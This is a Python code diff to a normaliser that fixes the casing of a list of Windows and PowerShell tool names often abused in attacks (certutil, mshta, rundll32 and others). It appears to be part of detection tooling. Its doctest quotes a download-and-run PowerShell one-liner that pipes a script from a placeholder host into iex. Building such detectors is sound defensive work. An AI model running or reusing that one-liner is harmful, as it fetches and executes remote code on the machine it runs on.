@@ -33,6 +33,7 @@ _NAMES = (
     "Get-ChildItem Remove-Item EncodedCommand UseBasicParsing OutFile schtasks certutil bitsadmin mshta regsvr32 rundll32 wscript cscript"
 ).split()
 _AS_WRITTEN = {name.lower(): name for name in _NAMES}
+_WRITTEN = (*_AS_WRITTEN.items(), ("http", "http"))
 _NAMED = re.compile(rf"(?<![\w/])(?:{'|'.join(map(re.escape, _NAMES))})(?!\w)|\bhttps?(?=://)", re.I)
 
 
@@ -66,6 +67,9 @@ def known_case(text: str) -> str:
     >>> known_case("IwR -UseB hTTp://x.invalid/W.ps1 | IEX")
     'iwr -UseB http://x.invalid/W.ps1 | iex'
     """
+    lowered = text.lower()
+    if all(lowered.count(name) == text.count(written) for name, written in _WRITTEN if name in lowered):
+        return text
     return _NAMED.sub(lambda found: _AS_WRITTEN.get(found[0].lower(), found[0].lower()), text)
 
 
